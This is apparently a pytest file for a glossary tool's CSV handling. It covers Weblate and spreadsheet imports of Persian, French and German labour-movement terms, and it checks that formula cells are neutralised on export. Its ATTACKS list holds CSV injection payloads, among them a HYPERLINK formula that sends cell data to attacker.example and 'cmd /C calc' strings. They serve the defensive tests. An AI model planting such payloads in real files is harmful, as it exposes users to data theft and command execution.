"""CSV that Weblate and spreadsheets write, and cells a spreadsheet must never run as formulas."""

from __future__ import annotations

import csv
import io
from collections import Counter

import pytest

from workbench.glossary import csv as termcsv
from workbench.glossary import store as glossary_store
from workbench.glossary.incoming import located
from workbench.glossary.model import Concept, Glossary, Term

from .support import DATA

CSV = DATA / "exchange" / "csv"


def read(name: str, target: str | None = "fa") -> tuple[Glossary, Counter[str]]:
    skipped: Counter[str] = Counter()
    items = termcsv.read((CSV / name).read_bytes(), name, "en", target, skipped)
    return located(items, name), skipped


def test_weblate_source_target_reads_one_concept_per_row_in_the_named_language():
    glossary, skipped = read("weblate-source-target.csv")
    assert len(glossary) == 15 and not skipped
    assert glossary["strike-committee"].preferred("fa").text == "کمیته\u200cی اعتصاب"
    # An empty target is an untranslated term, not a missing row.
    empty = [c for c in glossary if c.languages == ("en",)]
    assert len(empty) == 1


def test_weblate_comments_become_the_decision_note_line_breaks_kept():
    glossary, _ = read("weblate-source-target-comments.csv")
    note = glossary["minimum-wage"].note
    assert note == ("Workers are paid دستمزد, not حقوق.\nحقوق is a salary (civil servants).")


def test_weblate_context_rows_are_senses_and_repeated_rows_alternatives():
    glossary, _ = read("weblate-context.csv")
    noun, verb = glossary["strike-noun"], glossary["strike-verb"]
    assert (noun.preferred("fa").text, verb.preferred("fa").text) == ("اعتصاب", "اعتصاب کردن")
    assert noun.admin == (("context", "noun"),)
    general = glossary["general-strike"]
    assert [(t.text, t.status) for t in general.terms_in("fa")] == [
        ("اعتصاب عمومی", "preferred"),
        ("اعتصاب همگانی", "admitted"),
    ]
    assert glossary["demands-heading"].preferred("fa").text == "خواسته\u200cها"


def test_both_weblate_downloads_read_the_same_backslashes_and_formula_cells():
    current, skipped = read("weblate-export.csv", "fr")
    legacy, _ = read("weblate-export-legacy.csv", "fr")
    assert current == legacy
    path = [c for c in current if c.terms[0].text.startswith("Path:")][0]
    assert path.preferred("fr").text == "Chemin : C:\\Statements\\fr"
    wrapped = [c for c in current if c.terms[0].text.startswith("=")][0]
    assert wrapped.terms[0].text == "=see strike committee"
    assert wrapped.preferred("fr").text == "=voir comité de grève"
    assert skipped == {"location": 19, "fuzzy flag": 2}


def test_spreadsheet_headers_name_languages_by_name_or_tag():
    names, _ = read("spreadsheet-language-names.csv")
    strike = names["general-strike"]
    assert [(t.language, t.text) for t in strike.terms] == [
        ("en", "general strike"),
        ("fa", "اعتصاب عمومی"),
        ("de", "Generalstreik"),
    ]
    codes, _ = read("spreadsheet-language-codes-regions.csv")
    assert codes["general-strike"].preferred("fr_CA").text == "grève générale"


def test_a_weblate_file_without_a_target_language_asks_for_one():
    with pytest.raises(Exception) as info:
        read("weblate-source-target.csv", None)
    assert str(info.value) == (
        "weblate-source-target.csv line 1: the file names no target language (its columns are "
        "source and target); say which with --lang, for example --lang fa"
    )


def cells_of(name: str) -> list[str]:
    text = (CSV / name).read_text(encoding="utf-8")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_every_formula_cell_comes_back_byte_for_byte():
    cells = cells_of("formulas.csv")
    assert len(cells) == 13 * 3
    for cell in cells:
        out = termcsv.neutralise(cell)
        assert termcsv.restore(out) == cell
        assert out[:1] not in ("=", "+", "-", "@", "\t", "\r")


ATTACKS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+cmd /C calc",
    "-2+3+cmd /C calc",
    "@SUM(1+1)*cmd /C calc",
    "\t=1+1",
    "\r=1+1",
]


def test_an_exported_glossary_never_starts_a_cell_with_a_formula_and_imports_back():
    concepts = [
        Concept(f"c{n}", (Term(f"term {n}", "en"), Term(f"واژه {n}", "fa")), note=attack)
        for n, attack in enumerate(ATTACKS)
    ]
    concepts.append(Concept("at", (Term("@oilworkers_council", "en"),), definition="'=quoted"))
    glossary = Glossary(tuple(concepts))
    data = termcsv.dumps(glossary, "en", ["fa"])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for row in rows[1:]:
        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row)
    assert rows[1][-1] == "'" + ATTACKS[0]
    assert rows[-1][1] == "'@oilworkers_council" and "''=quoted" in rows[-1]
    back = located(termcsv.read(data, "x.csv", "en"), "x.csv")
    assert [c.note for c in back][:-1] == [a.strip() for a in ATTACKS]
    assert back["at"].terms[0].text == "@oilworkers_council"
    assert back["at"].definition == "'=quoted"


def test_cli_import_takes_the_target_language_and_export_can_leave_out_the_bom(
    project, run, tmp_path
):
    result = run(project, "glossary", "import", str(CSV / "weblate-context.csv"), "--lang", "fa")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[-1] == "kept 7 concepts"
    assert glossary_store.load(project)["strike-verb"].preferred("fa").text == "اعتصاب کردن"
    out = tmp_path / "out.csv"
    result = run(project, "glossary", "export", "--no-bom", str(out))
    assert result.exit_code == 0, result.output
    data = out.read_bytes()
    assert data.startswith(b"id,en,fa")
    with_bom = tmp_path / "bom.csv"
    run(project, "glossary", "export", str(with_bom))
    assert with_bom.read_bytes() == b"\xef\xbb\xbf" + data
